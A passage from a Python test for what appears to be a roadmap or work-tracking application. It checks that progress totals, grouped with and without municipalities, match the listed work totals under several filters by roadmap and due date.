        with unit_of_work(two_roadmaps) as session:
            refresh(session, day)
    with unit_of_work(two_roadmaps, readonly=True) as session:
        actor = load_actor(session, login)
        narrowings = [
            WorkFilter(),
            *(WorkFilter(roadmap_id=r) for r in session.execute(select(Roadmap.id)).scalars()),
            WorkFilter(due_from=date(2023, 10, 1), due_to=date(2024, 3, 31)),
        ]
        for narrow in narrowings:
            listed_work = work_totals(product, session, actor, day, narrow)
            assert listed_work.total > 0
            for municipalities in (False, True):
                rows = progress_by(
                    product, session, actor, day, narrow, municipalities=municipalities
                )
                assert Totals.of(rows) == listed_work, (narrow, municipalities)
